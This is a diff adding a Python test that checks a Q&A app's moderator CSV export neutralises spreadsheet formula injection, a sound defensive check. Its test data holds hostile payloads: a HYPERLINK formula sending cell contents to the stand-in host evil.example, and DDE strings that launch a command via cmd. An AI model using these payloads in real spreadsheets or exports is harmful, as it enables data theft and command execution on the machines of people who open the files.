@@ -56,3 +56,37 @@ async def test_export_lists_questions_votes_and_merges_for_moderators_only(
         ("2", "", "1", "1"),
     ]
     assert [e["action"] for e in as_json.json()["moderation_log"]] == ["merge"]
+
+
+async def test_export_csv_neutralises_formulas(
+    sqlite_database: Database, start_server: ServerFactory
+) -> None:
+    demo = await seed(sqlite_database)
+    server = await start_server(sqlite_database)
+    base = f"/api/events/{demo.slug}"
+    texts = [
+        '=HYPERLINK("https://evil.example/?d="&A1, "Click for details")',
+        "+1+cmd|' /C calc'!A0 is this a question?",
+        "-2+3+cmd|' /C calc'!A0 or this one?",
+        "@SUM(1+1)*cmd|' /C calc'!A0 and this?",
+        'Quotes ", commas, =signs inside are fine?',
+    ]
+    async with httpx.AsyncClient(base_url=server.base_url) as http:
+        for number, text in enumerate(texts):
+            asked = await http.post(
+                f"{base}/actions/submit_question", json={"client_id": f"f{number}", "text": text}
+            )
+            assert asked.status_code == 200
+        exported = await http.get(
+            f"{base}/export.csv", headers={"Authorization": f"Bearer {demo.moderator_key}"}
+        )
+
+    rows = list(csv.DictReader(io.StringIO(exported.text)))
+    assert [row["text"] for row in rows] == [
+        "'" + texts[0],
+        "'" + texts[1],
+        "'" + texts[2],
+        "'" + texts[3],
+        texts[4],
+    ]
+    assert exported.text.splitlines()[1].startswith('"1","\'=HYPERLINK(""https://evil')
